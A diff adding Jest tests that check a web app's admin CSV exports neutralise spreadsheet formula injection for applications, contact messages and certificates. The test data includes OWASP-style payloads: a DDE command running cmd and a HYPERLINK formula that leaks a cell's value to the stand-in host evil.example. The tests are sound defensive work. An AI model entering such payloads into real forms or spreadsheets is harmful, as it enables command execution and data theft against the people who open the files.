@@ -118,4 +118,54 @@ describe('exports', () => {
     expect(bytes).toBeGreaterThan(10_000_000);
     expect(peak - before).toBeLessThan(32 * 1024 * 1024);
   }, 120_000);
+
+  describe('formula payloads typed into the public forms', () => {
+    /** OWASP's CSV injection examples: a DDE command and a link that leaks a neighbouring cell. */
+    const DDE = "-2+3+cmd|' /C calc'!A0";
+    const HYPERLINK = '-1+HYPERLINK("http://evil.example/?leak="&B2,"Open CV")';
+    const PHONE = '+977 (01) 555-1234';
+    /** The cells of the export's rows (RFC 4180, enough of it for these rows). */
+    const cells = async (path: string) => {
+      const csv = text(await asText(admin, path)).replace(BOM, '');
+      return [...csv.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,\r\n]*)/gm)].map(([, cell]) =>
+        cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell,
+      );
+    };
+
+    beforeAll(async () => {
+      const visitor = t.agent();
+      await visitor
+        .post('/api/applications')
+        .send({ name: DDE, email: 'dde@example.test', phone: PHONE, program: HYPERLINK, address: DDE, motivation: HYPERLINK })
+        .expect(201);
+      await visitor
+        .post('/api/contact')
+        .send({ name: HYPERLINK, email: 'dde@example.test', phone: PHONE, subject: 'General Inquiry', message: DDE })
+        .expect(201);
+      await admin
+        .post('/api/admin/certificates')
+        .send({
+          name: DDE,
+          fatherName: HYPERLINK,
+          courseTaken: 'Welder',
+          duration: '390 hours',
+          trainingDate: '2024-01-02',
+          dateOfBirth: DOB,
+          certificateNumber: 'EXP-DDE',
+        })
+        .expect(201);
+    });
+
+    it.each(['applications', 'contact-messages', 'certificates'])('writes them into the %s export as text', async (resource) => {
+      const all = await cells(`/api/admin/${resource}/export?filter=${encodeURIComponent('{"q":"dde"}')}`);
+      expect(all).toEqual(expect.arrayContaining([`'${DDE}`, `'${HYPERLINK}`]));
+      expect(all).not.toContain(DDE);
+      expect(all).not.toContain(HYPERLINK);
+    });
+
+    it('leaves a phone number as typed', async () => {
+      expect(await cells('/api/admin/applications/export')).toContain(PHONE);
+      expect(await cells('/api/admin/contact-messages/export')).toContain(PHONE);
+    });
+  });
 });
